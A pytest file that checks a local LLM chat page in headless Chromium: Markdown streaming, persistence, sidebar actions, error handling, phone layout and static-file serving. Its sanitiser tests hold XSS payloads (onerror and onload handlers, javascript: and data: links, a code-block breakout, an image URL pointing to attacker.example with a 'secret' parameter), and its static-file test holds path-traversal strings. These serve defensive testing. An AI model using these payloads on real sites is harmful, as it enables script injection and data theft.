"""The chat page's features in headless Chromium: Markdown and code rendering while a reply streams, the sanitiser
against hostile replies and hostile user input, persistence across a reload, regenerate and edit, the sidebar
(switch, rename, delete, export/import), the per-reply figures, settings sent with the request, the 429 and
dropped-stream paths, and the phone-width layout (screenshot).

The page and its static files come from the real app (`create_app`, with its CSP). Replies come from a script:
`Scripted` wraps the app and answers POST /v1/chat/completions with canned SSE streams, a 429, or a stream that
the server drops mid-reply (the connection closes without the end of the chunked body), so every output is
exact. tests/test_serve_browser.py runs the page against the real model. Screenshots go to $POCKETLM_ARTIFACTS
(default: pytest's tmp dir); with POCKETLM_DOCS_SCREENSHOT=path the desktop screenshot is also written there
(docs/chat-page.png for the README).
"""

from __future__ import annotations

import asyncio
import json
import os
import threading
import time
from pathlib import Path

import pytest

import re
import urllib.error
import urllib.request

try:  # the browser helpers need `websockets`; the static-file tests below run without it
    from test_serve_browser import (CHROMIUM, CDP, _artifacts, launch_chromium, open_page, set_field, type_and_send,
                                    wait_ready)
    NO_BROWSER = None if CHROMIUM else "chromium is not installed; run scripts/install-browser.sh"
except pytest.skip.Exception as e:
    NO_BROWSER = str(e)
needs_browser = pytest.mark.skipif(NO_BROWSER is not None, reason=NO_BROWSER or "")
STATIC = Path(__file__).resolve().parents[1] / "src" / "pocketlm" / "serve" / "static"

STORE = "pocketlm.chats.v1"


class Scripted:
    """ASGI wrapper: POST /v1/chat/completions is answered by the next entry of `script`; all else by `app`.

    Entries: ("reply", text, options) streams `text` in small chunks as SSE (options: `hold_at` -- stop after that
    many chunks until `release` is set; `usage` -- the usage chunk, default from the chunk count; `drop` -- close
    the connection after that many chunks, no end of stream; `error_at` -- an error event after that many chunks,
    as the real server sends when the engine fails); ("status", code, message, headers) answers an
    OpenAI error envelope. Each request's JSON body is appended to `requests`.
    """

    def __init__(self, app):
        self.app, self.state = app, app.state
        self.script: list[tuple] = []
        self.requests: list[dict] = []
        self.authorization: list[str] = []
        self.release = threading.Event()

    async def __call__(self, scope, receive, send):
        if not (scope["type"] == "http" and scope["method"] == "POST" and scope["path"] == "/v1/chat/completions"):
            return await self.app(scope, receive, send)
        body = b""
        while True:
            msg = await receive()
            body += msg.get("body", b"")
            if not msg.get("more_body"):
                break
        self.requests.append(json.loads(body))
        self.authorization.append(dict(scope["headers"]).get(b"authorization", b"").decode())
        assert self.script, "the page sent a request that the test did not script"
        entry = self.script.pop(0)
        if entry[0] == "status":
            _, code, message, headers = entry
            payload = json.dumps({"error": {"message": message, "type": "server_error", "param": None,
                                            "code": None}}).encode()
            await send({"type": "http.response.start", "status": code,
                        "headers": [(b"content-type", b"application/json")] +
                                   [(k.encode(), v.encode()) for k, v in headers.items()]})
            await send({"type": "http.response.body", "body": payload})
            return
        _, text, options = entry
        pieces = [text[i:i + 6] for i in range(0, len(text), 6)]
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/event-stream"), (b"cache-control", b"no-cache")]})

        async def event(obj) -> None:
            data = obj if isinstance(obj, str) else json.dumps(obj)
            await send({"type": "http.response.body", "body": f"data: {data}\n\n".encode(), "more_body": True})

        base = {"id": "chatcmpl-test", "object": "chat.completion.chunk", "created": 0, "model": "tiny"}
        await event({**base, "choices": [{"index": 0, "delta": {"role": "assistant", "content": ""},
                                          "finish_reason": None}]})
        for i, piece in enumerate(pieces):
            if i == options.get("error_at"):
                await event({"error": {"message": "engine failure (scripted)", "type": "server_error", "param": None,
                                       "code": "internal_error"}})
                await send({"type": "http.response.body", "body": b""})
                return
            if i == options.get("drop"):
                raise ConnectionAbortedError("scripted: the server drops the stream mid-reply")
            if i == options.get("hold_at"):
                for _ in range(1500):  # bounded: 15 s
                    if self.release.is_set():
                        break
                    await asyncio.sleep(0.01)
            await event({**base, "choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]})
            await asyncio.sleep(0.002)
        await event({**base, "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
        usage = options.get("usage", {"prompt_tokens": 11, "completion_tokens": len(pieces),
                                      "total_tokens": 11 + len(pieces)})
        await event({**base, "choices": [], "usage": usage})
        await event("[DONE]")
        await send({"type": "http.response.body", "body": b""})


@pytest.fixture(scope="module")
def server():
    import pocketlm
    from pocketlm import Tokenizer
    from pocketlm.serve.app import BackgroundServer, ServerConfig, create_app

    app = create_app(pocketlm.load("tiny"), Tokenizer.default(), ServerConfig(model_name="tiny", aliases=["tiny-chat"],
                                                                              max_slots=1))
    scripted = Scripted(app)
    with BackgroundServer(scripted) as srv:
        srv.scripted = scripted
        yield srv


@pytest.fixture(scope="module")
def chromium(tmp_path_factory):
    with launch_chromium(tmp_path_factory.mktemp("chromium") / "profile") as cdp:
        yield cdp


@pytest.fixture
def page(chromium, server):
    """A fresh tab on the chat page with empty storage and an empty script."""
    server.scripted.script.clear()
    server.scripted.requests.clear()
    server.scripted.authorization.clear()
    server.scripted.release.clear()
    open_page(chromium, server.url + "/")
    chromium.eval("localStorage.clear(); true")
    reload(chromium)
    chromium.eval("window.__violations = []; document.addEventListener('securitypolicyviolation', "
                  "(e) => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI)); true")
    yield chromium, server.scripted
    chromium.call("Emulation.clearDeviceMetricsOverride")
    chromium.call("Page.close")
    chromium.session = None


def reload(cdp: CDP) -> None:
    cdp.eval("document.body.dataset.ready = 'false'; location.reload(); true")
    time.sleep(0.1)
    wait_ready(cdp)


def wait_reply(cdp: CDP, count: int, state: str = "done") -> None:
    cdp.wait_for(f"(() => {{ const m = document.querySelectorAll('.msg.assistant'); return m.length === {count} && "
                 f"m[{count - 1}].dataset.state === {json.dumps(state)} && "
                 "!document.getElementById('send').disabled; })()",
                 timeout=20, what=f"assistant reply {count} to be {state}")


def saved_conversation(cdp: CDP) -> dict:
    store = json.loads(cdp.eval(f"localStorage.getItem('{STORE}')"))
    return next(c for c in store["conversations"] if c["id"] == store["current"])


MARKDOWN_REPLY = """## Sorting a list

Python's `sorted` returns a **new** list:

```python
def top(xs, n=3):
    # the n largest items
    return sorted(xs, reverse=True)[:n]
```

- stable
- O(n log n)

| function | in place |
|----------|:--------:|
| `sorted` | no |
| `list.sort` | yes |
"""


@needs_browser
def test_markdown_and_code_render_while_streaming(page, tmp_path):
    cdp, scripted = page
    scripted.script.append(("reply", MARKDOWN_REPLY, {"hold_at": 30,
                                                      "usage": {"prompt_tokens": 17, "completion_tokens": 58,
                                                                "total_tokens": 75}}))
    set_field(cdp, "system", "You are terse.")
    set_field(cdp, "temperature", "0.3")
    set_field(cdp, "top-p", "0.9")
    set_field(cdp, "max-tokens", "200")
    type_and_send(cdp, "How do I sort a list in *Python*?")
    # mid-stream (held after 30 chunks, inside the code block): the heading and an open code block are rendered
    cdp.wait_for("(() => { const m = document.querySelector('.msg.assistant'); return Boolean(m && m.dataset.state "
                 "=== 'streaming' && m.querySelector('h2') && m.querySelector('pre code.language-python')); })()",
                 what="Markdown rendered while streaming")
    scripted.release.set()
    wait_reply(cdp, 1)
    sent = scripted.requests[0]
    assert sent["messages"] == [{"role": "system", "content": "You are terse."},
                                {"role": "user", "content": "How do I sort a list in *Python*?"}]
    assert sent["stream"] is True and sent["stream_options"] == {"include_usage": True}
    assert (sent["temperature"], sent["top_p"], sent["max_tokens"], sent["model"]) == (0.3, 0.9, 200, "tiny")
    r = cdp.eval("""(() => { const m = document.querySelector('.msg.assistant');
        return {h2: m.querySelector('h2')?.textContent, strong: m.querySelector('strong')?.textContent,
                inline: [...m.querySelectorAll(':not(pre) > code')].map((c) => c.textContent),
                keyword: m.querySelector('pre code.language-python .hljs-keyword')?.textContent,
                comment: m.querySelector('pre code .hljs-comment')?.textContent,
                code: m.querySelector('pre code').textContent, items: m.querySelectorAll('li').length,
                th: [...m.querySelectorAll('th')].map((t) => t.textContent), tds: m.querySelectorAll('td').length,
                copyButtons: m.querySelectorAll('.code-block .copy-code').length,
                figures: m.querySelector('.figures').textContent,
                user: document.querySelector('.msg.user .content').innerHTML}; })()""")
    assert r["h2"] == "Sorting a list" and r["strong"] == "new"
    assert r["inline"] == ["sorted", "sorted", "list.sort"]
    assert r["keyword"] == "def" and r["comment"] == "# the n largest items"
    assert r["code"] == "def top(xs, n=3):\n    # the n largest items\n    return sorted(xs, reverse=True)[:n]"
    assert r["items"] == 2 and r["th"] == ["function", "in place"] and r["tds"] == 4
    assert r["copyButtons"] == 1
    assert r["user"] == "How do I sort a list in *Python*?"  # user text is text, never Markdown or HTML
    assert "17 prompt tokens" in r["figures"] and "58 completion tokens" in r["figures"], r["figures"]
    assert "first token" in r["figures"] and "tokens/s" in r["figures"], r["figures"]
    png = cdp.screenshot(_artifacts(tmp_path) / "serve_chat_page_markdown.png")
    docs = os.environ.get("POCKETLM_DOCS_SCREENSHOT")
    if docs:
        cdp.screenshot(Path(docs))
    # copy buttons: the code block's copies the code, the reply's copies the whole Markdown source
    cdp.eval("window.__copied = []; navigator.clipboard.writeText = async (t) => { window.__copied.push(t); }; true")
    cdp.eval("document.querySelector('.code-block .copy-code').click(); "
             "document.querySelector('.msg.assistant .actions .copy').click(); true")
    copied = cdp.wait_for("window.__copied.length === 2 && window.__copied", what="two copies")
    assert copied == [r["code"], MARKDOWN_REPLY]
    assert cdp.eval("window.__violations") == []
    assert png.stat().st_size > 1000
    print(f"\nscreenshot: {png}")


HOSTILE_REPLY = """Here you go <img src=x onerror="window.__pwned='img'"> and <script>window.__pwned='script'</script>

<svg onload="window.__pwned='svg'"><circle r=5 /></svg>
<iframe src="javascript:window.__pwned='iframe'"></iframe>
<a href="javascript:window.__pwned='a-html'">raw anchor</a>
<details open ontoggle="window.__pwned='details'">x</details>
<style>body { display: none }</style>

[md link](javascript:window.__pwned='md-link') [spaced]( JaVaScRiPt:window.__pwned='case')
[data link](data:text/html,<script>alert(1)</script>) [vb](vbscript:msgbox) ![pic](javascript:window.__pwned='img-md')
![remote](https://attacker.example/leak?secret=1) [fine](https://example.com/docs)
<javascript:window.__pwned='autolink'> [ref link][evil] <a href=x onmouseover="window.__pwned='hover'">hover</a>

[evil]: javascript:window.__pwned='ref'

```html
</code></pre><img src=x onerror="window.__pwned='code'">
```
"""


@needs_browser
def test_hostile_output_and_input_are_never_html(page):
    cdp, scripted = page
    scripted.script.append(("reply", HOSTILE_REPLY, {}))
    type_and_send(cdp, "<img src=x onerror=\"window.__pwned='user'\"> [u](javascript:window.__pwned='user-link')")
    wait_reply(cdp, 1)
    time.sleep(0.2)  # an onerror or onload would have run by now
    r = cdp.eval("""(() => { const box = document.getElementById('messages');
        const all = [...box.querySelectorAll('*')];
        return {pwned: window.__pwned ?? null,
                tags: all.map((e) => e.tagName.toLowerCase()).filter((t) =>
                    ['img', 'script', 'svg', 'iframe', 'details', 'style', 'object', 'embed'].includes(t)),
                handlers: all.flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
                styles: all.filter((e) => e.hasAttribute('style')).length,
                hrefs: [...box.querySelectorAll('[href]')].map((a) => a.getAttribute('href')),
                links: [...box.querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href'),
                                                                   a.getAttribute('rel')]),
                reply: document.querySelector('.msg.assistant .content').textContent,
                user: document.querySelector('.msg.user .content').textContent,
                hidden: getComputedStyle(document.body).display}; })()""")
    assert r["pwned"] is None
    assert r["tags"] == [] and r["handlers"] == [] and r["styles"] == 0
    assert r["hrefs"] == ["https://attacker.example/leak?secret=1", "https://example.com/docs"], r["hrefs"]
    links = {text: (href, rel) for text, href, rel in r["links"]}
    assert links["fine"] == ("https://example.com/docs", "noopener noreferrer nofollow")
    assert links["md link"][0] is None and links["spaced"][0] is None and links["data link"][0] is None
    # an image is a link, never loaded
    assert links["pic"][0] is None and links["remote"][0] == "https://attacker.example/leak?secret=1"
    assert links["ref link"][0] is None
    # clicking every neutralised link does nothing
    cdp.eval("document.querySelectorAll('#messages a:not([href])').forEach((a) => a.click()); true")
    time.sleep(0.1)
    assert cdp.eval("window.__pwned ?? null") is None and cdp.eval("location.pathname") == "/"
    # the hostile markup is shown as text
    assert "<img src=x onerror=" in r["reply"] and "<script>window.__pwned='script'</script>" in r["reply"]
    assert "</code></pre><img src=x" in r["reply"]
    assert r["user"].startswith("<img src=x onerror=") and r["hidden"] != "none"
    assert cdp.eval("window.__violations") == []  # nothing even tried to load or run
    # the same holds after a reload (rendered again from storage)
    reload(cdp)
    assert cdp.eval("document.querySelectorAll('#messages img, #messages script, #messages svg').length") == 0
    assert cdp.eval("window.__pwned ?? null") is None


@needs_browser
def test_persistence_regenerate_and_edit(page):
    cdp, scripted = page
    scripted.script += [("reply", "First answer.", {}), ("reply", "Second *answer*.", {}),
                        ("reply", "Answer to the edit.", {})]
    type_and_send(cdp, "What is 2+2?")
    wait_reply(cdp, 1)
    assert [m["content"] for m in saved_conversation(cdp)["messages"]] == ["What is 2+2?", "First answer."]
    # a reload restores the current conversation, with its figures and title
    reload(cdp)
    r = cdp.eval("""(() => ({texts: [...document.querySelectorAll('.msg .content')].map((e) => e.textContent.trim()),
                            figures: document.querySelector('.msg.assistant .figures').textContent,
                            title: document.getElementById('title').textContent,
                            side: [...document.querySelectorAll('#conversations .conv-title')]
                                  .map((e) => e.textContent)}))()""")
    assert r["texts"] == ["What is 2+2?", "First answer."] and "completion tokens" in r["figures"]
    assert r["title"] == "What is 2+2?" and r["side"] == ["What is 2+2?"]
    # regenerate: the last reply is replaced, and the request does not contain it
    cdp.eval("document.querySelector('.msg.assistant .actions .regenerate').click(); true")
    cdp.wait_for("document.querySelector('.msg.assistant em')?.textContent === 'answer'", what="the regenerated reply")
    wait_reply(cdp, 1)
    assert scripted.requests[-1]["messages"] == [{"role": "user", "content": "What is 2+2?"}]
    assert [m["content"] for m in saved_conversation(cdp)["messages"]] == ["What is 2+2?", "Second *answer*."]
    # edit the user turn and resend: it replaces that turn and everything after it
    cdp.eval("document.querySelector('.msg.user .actions .edit').click(); true")
    cdp.eval("(() => { const b = document.querySelector('.msg.user .edit-box'); b.value = 'What is 3+3?'; "
             "document.querySelector('.msg.user .edit-send').click(); return true; })()")
    cdp.wait_for("document.querySelector('.msg.assistant .content')?.textContent.trim() === 'Answer to the edit.'",
                 what="the reply to the edited turn")
    wait_reply(cdp, 1)
    assert scripted.requests[-1]["messages"] == [{"role": "user", "content": "What is 3+3?"}]
    assert [m["content"] for m in saved_conversation(cdp)["messages"]] == ["What is 3+3?", "Answer to the edit."]
    reload(cdp)
    assert cdp.eval("[...document.querySelectorAll('.msg .content')].map((e) => e.textContent.trim())") == \
        ["What is 3+3?", "Answer to the edit."]


@needs_browser
def test_sidebar_switch_rename_delete_export_import(page, tmp_path):
    cdp, scripted = page
    scripted.script += [("reply", "About cats.", {}), ("reply", "About dogs.", {})]
    type_and_send(cdp, "Tell me about cats")
    wait_reply(cdp, 1)
    cdp.eval("document.getElementById('new-chat').click(); true")
    type_and_send(cdp, "Tell me about dogs")
    wait_reply(cdp, 1)
    titles = "[...document.querySelectorAll('#conversations .conv-title')].map((e) => e.textContent)"
    assert cdp.eval(titles) == ["Tell me about dogs", "Tell me about cats"]
    # switch to the first conversation; the next request carries only its turns
    cdp.eval("document.querySelectorAll('#conversations .conv-title')[1].click(); true")
    assert cdp.eval("document.querySelector('.msg.assistant .content').textContent.trim()") == "About cats."
    # rename it (Enter commits)
    cdp.eval("document.querySelector('#conversations li.current .conv-rename').click(); true")
    cdp.eval("document.querySelector('.conv-rename-input').value = 'Cats'; true")
    cdp.call("Input.dispatchKeyEvent", {"type": "keyDown", "key": "Enter", "code": "Enter",
                                        "windowsVirtualKeyCode": 13})
    cdp.wait_for("document.getElementById('title').textContent === 'Cats'", what="the renamed title")
    assert cdp.eval(titles) == ["Tell me about dogs", "Cats"]
    # export: capture the downloaded JSON
    cdp.eval("window.__blobs = []; const orig = URL.createObjectURL; URL.createObjectURL = (b) => "
             "{ window.__blobs.push(b); return orig(b); }; HTMLAnchorElement.prototype.click = function () {}; true")
    cdp.eval("document.getElementById('export').click(); true")
    exported = json.loads(cdp.eval("window.__blobs[0].text()"))
    assert exported["format"] == "pocketlm-chats" and len(exported["conversations"]) == 2
    # delete needs two clicks; then the other conversation is current
    cdp.eval("document.querySelector('#conversations li.current .conv-delete').click(); true")
    assert cdp.eval(titles) == ["Tell me about dogs", "Cats"]
    cdp.eval("document.querySelector('#conversations li.current .conv-delete').click(); true")
    assert cdp.eval(titles) == ["Tell me about dogs"]
    assert cdp.eval("document.querySelector('.msg.assistant .content').textContent.trim()") == "About dogs."
    # import the export back: both come back (the kept one under a new id), the last imported is current
    path = tmp_path / "chats.json"
    path.write_text(json.dumps(exported))
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"conversations": [{"messages": [{"role": "hacker", "content": 1}]}]}))
    doc = cdp.call("DOM.getDocument")["root"]["nodeId"]
    node = cdp.call("DOM.querySelector", {"nodeId": doc, "selector": "#import-file"})["nodeId"]
    cdp.call("DOM.setFileInputFiles", {"nodeId": node, "files": [str(bad)]})
    cdp.wait_for("document.getElementById('stats').textContent.includes('could not import bad.json')",
                 what="the import error")
    assert "conversation 1 is not valid" in cdp.eval("document.getElementById('stats').textContent")
    cdp.call("DOM.setFileInputFiles", {"nodeId": node, "files": [str(path)]})
    cdp.wait_for("document.getElementById('stats').textContent.includes('imported 2 conversation(s)')",
                 what="the import")
    assert sorted(cdp.eval(titles)) == ["Cats", "Tell me about dogs", "Tell me about dogs"]
    store = json.loads(cdp.eval(f"localStorage.getItem('{STORE}')"))
    assert len({c["id"] for c in store["conversations"]}) == 3


@needs_browser
def test_429_then_retry_and_a_dropped_stream(page):
    cdp, scripted = page
    scripted.script += [("status", 429, "the server is at capacity: 2 running, 16 waiting", {"Retry-After": "1"}),
                        ("reply", "Now it worked.", {}),
                        ("reply", "This reply will be cut off in the middle of a sentence", {"drop": 4}),
                        ("reply", "Recovered.", {}),
                        ("reply", "Half a thought and then", {"error_at": 2})]
    type_and_send(cdp, "Hello?")
    wait_reply(cdp, 1, "error")
    r = cdp.eval("""(() => { const m = document.querySelector('.msg.assistant');
        return {note: m.querySelector('.note').textContent, retry: m.querySelector('.regenerate').textContent,
                stats: document.getElementById('stats').textContent}; })()""")
    assert "busy (429: the server is at capacity" in r["note"] and "Retry in 1 s" in r["note"], r
    assert r["retry"].startswith("Retry")
    # the user turn is kept; Retry asks again with the same turns
    cdp.eval("document.querySelector('.msg.assistant .regenerate').click(); true")
    cdp.wait_for("document.querySelector('.msg.assistant .content').textContent.trim() === 'Now it worked.'",
                 what="the retried reply")
    wait_reply(cdp, 1)
    hello = [{"role": "user", "content": "Hello?"}]
    assert scripted.requests[0]["messages"] == scripted.requests[1]["messages"] == hello
    # a dropped stream: message shown, partial reply kept (on the page and in storage), the page stays usable
    type_and_send(cdp, "Tell me more")
    wait_reply(cdp, 2, "error")
    r = cdp.eval("""(() => { const m = document.querySelectorAll('.msg.assistant')[1];
        return {content: m.querySelector('.content').textContent.trim(), note: m.querySelector('.note').textContent,
                send: document.getElementById('send').disabled,
                stop: document.getElementById('stop').disabled}; })()""")
    assert r["content"] == "This reply will be cut off in the middle of a sentence"[:24], r
    assert "lost mid-reply" in r["note"] and "partial reply is kept" in r["note"], r
    print(f"\ndropped stream note: {r['note']}")
    assert r["send"] is False and r["stop"] is True
    assert saved_conversation(cdp)["messages"][-1]["content"] == r["content"]
    type_and_send(cdp, "Are you there?")
    wait_reply(cdp, 3)
    assert scripted.requests[-1]["messages"][-2:] == [{"role": "assistant", "content": r["content"]},
                                                      {"role": "user", "content": "Are you there?"}]
    # an error event from the server mid-reply: its message is shown, the partial reply kept
    type_and_send(cdp, "And now?")
    wait_reply(cdp, 4, "error")
    note = cdp.eval("document.querySelectorAll('.msg.assistant')[3].querySelector('.note').textContent")
    assert "The server failed mid-reply: engine failure (scripted)" in note, note
    assert cdp.eval("document.querySelectorAll('.msg.assistant')[3].querySelector('.content').textContent.trim()") \
        == "Half a thought and then"[:12]  # two 6-character chunks


@needs_browser
def test_phone_width_layout_and_dark_theme(page, tmp_path):
    cdp, scripted = page
    cdp.call("Emulation.setDeviceMetricsOverride", {"width": 390, "height": 844, "deviceScaleFactor": 1,
                                                    "mobile": True})
    cdp.call("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "dark"}]})
    wide = "```text\n" + "x" * 300 + "\n```\n\n| " + " | ".join(f"column {i}" for i in range(12)) + " |\n|" + \
           "---|" * 12 + "\n| " + " | ".join("value" for _ in range(12)) + " |\n\n" + "averyveryverylongword" * 8
    scripted.script.append(("reply", wide, {}))
    type_and_send(cdp, "a" * 120)
    wait_reply(cdp, 1)
    r = cdp.eval("""(() => ({scroll: document.documentElement.scrollWidth, inner: innerWidth,
        bodyScroll: document.body.scrollWidth,
        sidebarRight: document.getElementById('sidebar').getBoundingClientRect().right,
        sidebarVisible: getComputedStyle(document.getElementById('sidebar')).visibility,
        menu: getComputedStyle(document.getElementById('open-sidebar')).display,
        send: document.getElementById('send').getBoundingClientRect().right,
        bg: getComputedStyle(document.body).backgroundColor}))()""")
    assert r["scroll"] <= r["inner"] == 390 and r["bodyScroll"] <= 390, r
    assert r["sidebarRight"] <= 0 and r["sidebarVisible"] == "hidden" and r["menu"] != "none", r
    assert r["send"] <= 390, r
    assert r["bg"] == "rgb(13, 17, 23)", r  # the dark palette follows prefers-color-scheme
    png = cdp.screenshot(_artifacts(tmp_path) / "serve_chat_page_phone.png")
    # the menu button opens the conversation list over the page, the backdrop closes it
    cdp.eval("document.getElementById('open-sidebar').click(); true")
    cdp.wait_for("document.getElementById('sidebar').getBoundingClientRect().left >= 0 && "
                 "getComputedStyle(document.getElementById('sidebar')).visibility === 'visible'",
                 what="the open sidebar")
    assert cdp.eval("document.documentElement.scrollWidth <= innerWidth")
    cdp.screenshot(_artifacts(tmp_path) / "serve_chat_page_phone_sidebar.png")
    cdp.eval("document.getElementById('backdrop').click(); true")
    assert cdp.eval("document.body.classList.contains('sidebar-open')") is False
    cdp.call("Emulation.setEmulatedMedia", {"features": [{"name": "prefers-color-scheme", "value": "light"}]})
    assert cdp.eval("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
    assert png.stat().st_size > 1000
    print(f"\nscreenshot: {png}")


@needs_browser
def test_settings_api_key_and_model_picker(page, server):
    cdp, scripted = page
    config = scripted.state.config
    assert cdp.eval("[...document.getElementById('model').options].map((o) => o.value)") == ["tiny", "tiny-chat"]
    cdp.eval("const s = document.getElementById('model'); s.value = 'tiny-chat'; "
             "s.dispatchEvent(new Event('change')); true")
    assert cdp.eval("document.getElementById('settings').hidden") is True
    cdp.eval("document.getElementById('open-settings').click(); true")
    assert cdp.eval("document.getElementById('settings').hidden") is False
    set_field(cdp, "system", "Be brief.")
    set_field(cdp, "max-tokens", "64")
    # the server now wants a key: the page says so and opens the settings
    config.api_key = "sk-test-123"
    try:
        reload(cdp)
        assert cdp.eval("document.getElementById('model-status').textContent") == "API key needed (see Settings)"
        assert cdp.eval("document.getElementById('settings').hidden") is False
        # settings survived the reload
        assert cdp.eval("[document.getElementById('system').value, document.getElementById('max-tokens').value]") == \
            ["Be brief.", "64"]
        cdp.eval("const k = document.getElementById('api-key'); k.value = 'sk-test-123'; "
                 "k.dispatchEvent(new Event('input')); k.dispatchEvent(new Event('change')); true")
        cdp.wait_for("document.getElementById('model').options.length === 2 && "
                     "document.getElementById('model-status').textContent === ''", what="the models with the key")
        assert cdp.eval("document.getElementById('model').value") == "tiny-chat"  # the choice was kept
        scripted.script.append(("reply", "Brief.", {}))
        type_and_send(cdp, "Hi")
        wait_reply(cdp, 1)
    finally:
        config.api_key = None
    assert scripted.authorization == ["Bearer sk-test-123"]
    sent = scripted.requests[0]
    assert sent["model"] == "tiny-chat" and sent["max_tokens"] == 64
    assert sent["messages"][0] == {"role": "system", "content": "Be brief."}


def _get(url: str) -> tuple[int, dict, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, {k.lower(): v for k, v in r.headers.items()}, r.read()
    except urllib.error.HTTPError as e:
        return e.code, {k.lower(): v for k, v in e.headers.items()}, e.read()


def test_static_files_allow_list_types_and_csp(server):
    """The page's files are served by name from a fixed list, with their types; nothing else is reachable."""
    code, headers, body = _get(server.url + "/")
    assert code == 200
    csp = headers["content-security-policy"]
    assert "script-src 'self';" in csp and "unsafe-inline" not in csp and "object-src 'none'" in csp, csp
    html = body.decode()
    refs = re.findall(r'(?:src|href)="(/static/[^"]+)"', html)
    assert len(refs) >= 5 and "<script>" not in html and "<style>" not in html and " style=" not in html
    imports = re.findall(r'from "\./([^"]+)"', (STATIC / "app.js").read_text())
    assert "marked.esm.js" in imports and "hljs-core.min.js" in imports
    for name in [r.removeprefix("/static/") for r in refs] + imports:
        code, headers, body = _get(f"{server.url}/static/{name}")
        assert code == 200 and body == (STATIC / name).read_bytes(), name
        want = "text/javascript" if name.endswith(".js") else "text/css"
        assert headers["content-type"].startswith(want) and headers["x-content-type-options"] == "nosniff", name
    code, headers, _ = _get(server.url + "/static/LICENSE-dompurify.txt")
    assert code == 200 and headers["content-type"].startswith("text/plain")
    for bad in ("index.html", "nope.js", "..%2Fapp.py", "%2E%2E%2Fapp.py", "..%2F..%2F__init__.py"):
        code, headers, body = _get(f"{server.url}/static/{bad}")
        assert code == 404 and json.loads(body)["error"]["code"] == "not_found", bad
    assert _get(server.url + "/static/")[0] == 404


def test_vendored_libraries_have_their_licences():
    listing = (STATIC / "VENDOR.txt").read_text()
    for name, licence in (("marked.esm.js", "LICENSE-marked.txt"), ("purify.min.js", "LICENSE-dompurify.txt"),
                          ("hljs-core.min.js", "LICENSE-highlightjs.txt")):
        assert name in listing and licence in listing and (STATIC / name).is_file()
        assert (STATIC / licence).stat().st_size > 500
    langs = sorted(p.name for p in STATIC.glob("hljs-*.min.js") if p.name != "hljs-core.min.js")
    imported = sorted(re.findall(r'from "\./(hljs-(?!core)[^"]+)"', (STATIC / "app.js").read_text()))
    assert langs == imported and len(langs) >= 10
    assert sum(p.stat().st_size for p in STATIC.iterdir()) < 300_000  # the whole page stays small
